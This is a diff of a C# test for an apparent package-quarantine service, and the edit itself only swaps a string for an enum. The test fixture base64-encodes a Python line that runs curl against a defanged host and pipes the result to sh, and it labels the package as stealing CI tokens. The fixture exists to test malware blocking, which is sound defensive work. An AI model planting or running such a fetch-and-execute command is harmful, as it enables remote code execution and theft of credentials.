@@ -1,3 +1,4 @@
+using Moat.Packaging.Distributions;
 using System.Net;
 using System.Net.Http.Headers;
 using System.Text;
@@ -99,7 +100,7 @@ public sealed class HostedQuarantineTests(QuarantiningFixture web) : IClassFixtu
         // As stored after an admin blocked it: the gate's finding quotes a base64 payload handed to exec (defanged: example.invalid).
         var payload = Convert.ToBase64String(Encoding.UTF8.GetBytes("import os; os.system('curl -s https://example.invalid/stage2 | sh')"));
         var sha = new string('b', 64);
-        var file = new Moat.Index.Storage.FileRecord("blocked_demo-1.0.tar.gz", "blocked-demo", "1.0", "sdist", "source", null, sha, null, "00", 2048,
+        var file = new Moat.Index.Storage.FileRecord("blocked_demo-1.0.tar.gz", "blocked-demo", "1.0", PackageType.Sdist, "source", null, sha, null, "00", 2048,
             DateTimeOffset.UtcNow, null, false, null, Moat.Index.Storage.FileState.Blocked, "steals CI tokens", null, null);
         await web.Server.Store.AddFileAsync(file, "blocked-demo");
         await web.Server.Store.SaveVerdictAsync(new Moat.Index.Storage.StoredVerdict(sha, file.Filename, "quarantine", "malicious", 0.97,
